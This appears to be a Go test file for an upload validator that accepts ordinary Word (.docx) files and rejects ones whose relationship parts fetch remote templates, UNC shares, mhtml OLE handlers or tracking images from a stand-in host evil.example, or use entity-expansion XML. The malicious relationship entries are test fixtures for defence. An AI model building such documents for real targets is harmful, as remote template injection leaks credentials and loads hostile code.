package document_test

import (
	"bytes"
	"fmt"
	"testing"

	"github.com/stretchr/testify/require"
)

// TestStore_SaveUpload_linked: what an Office file makes its reader's computer fetch or unfold is no part of what people send.
func TestStore_SaveUpload_linked(t *testing.T) {
	const types = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
	link := func(kind, mode, target string) []byte {
		return fmt.Appendf(nil, `<?xml version="1.0" encoding="UTF-8"?><Relationships><Relationship Id="rId1" Target=%q TargetMode=%q Type="%s%s"/></Relationships>`, target, mode, types, kind)
	}
	a := open(t)
	for name, list := range map[string][]byte{
		"an address to press":      link("hyperlink", "External", "https://my.gov.uz/"),
		"a template of the writer": link("attachedTemplate", "External", `file:///C:\Users\a\Normal.dotm`),
		"one beside the file":      link("attachedTemplate", "External", "Letter.dotx"),
		"a picture inside":         link("image", "Internal", "media/image1.png"),
		"no link":                  []byte("<Relationships/>"),
		"as many as may be":        append([]byte("<Relationships/>"), bytes.Repeat([]byte(" "), 1<<20-len("<Relationships/>"))...),
	} {
		_, err := a.save(t, name+".docx", packed(t, map[string][]byte{"word/_rels/document.xml.rels": list}))
		require.NoError(t, err, name)
	}
	kept := a.count(t, `SELECT count(*) FROM uploads`)
	for name, c := range map[string]struct {
		part    string
		content []byte
		id      string
	}{
		"a template from elsewhere":  {"word/_rels/settings.xml.rels", link("attachedTemplate", "External", "https://evil.example/a.dotm"), "document.active"},
		"one under another name":     {"word/_rels/settings.xml.rels", []byte(`<Relationships><Relationship xmlns:a="x" a:TargetMode="Internal" TargetMode="External" Type="` + types + `attachedTemplate" Target="https://evil.example/a.dotm"/></Relationships>`), "document.active"},
		"in capitals":                {"word/_rels/settings.xml.RELS", link("attachedTemplate", "External", "HTTPS://evil.example/a.dotm"), "document.active"},
		"from a share":               {"word/_rels/settings.xml.rels", link("attachedTemplate", "External", `\\evil.example\a.dotm`), "document.active"},
		"from a share, as a file":    {"word/_rels/settings.xml.rels", link("attachedTemplate", "External", "file://evil.example/a.dotm"), "document.active"},
		"an object by a handler":     {"word/_rels/document.xml.rels", link("oleObject", "External", "mhtml:https://evil.example!x-usc:https://evil.example"), "document.active"},
		"a picture that tells":       {"word/_rels/document.xml.rels", link("image", "External", "//evil.example/who.png"), "document.active"},
		"letters that grow":          {"word/settings.xml", []byte(`<!DOCTYPE a [<!ENTITY b "bbbb"><!ENTITY c "&b;&b;&b;">]><a>&c;</a>`), "document.active"},
		"letters that grow in links": {"word/_rels/a.xml.rels", []byte(`<!DOCTYPE a [<!ENTITY b "https://evil.example">]><Relationships/>`), "document.active"},
		"a list that is none":        {"word/_rels/a.xml.rels", []byte("<Relationships"), "document.unreadable"},
		"a list in other letters":    {"word/_rels/a.xml.rels", []byte("<?xml version=\"1.0\" encoding=\"UTF-16\"?><Relationships/>"), "document.unreadable"},
		"a list without end":         {"word/_rels/a.xml.rels", bytes.Repeat([]byte(" "), 1<<20+1), "document.unpacks"},
	} {
		_, err := a.save(t, "a.docx", packed(t, map[string][]byte{c.part: c.content}))
		require.ErrorContains(t, err, c.id, name)
	}
	require.Equal(t, kept, a.count(t, `SELECT count(*) FROM uploads`), "a refused file leaves nothing")
}
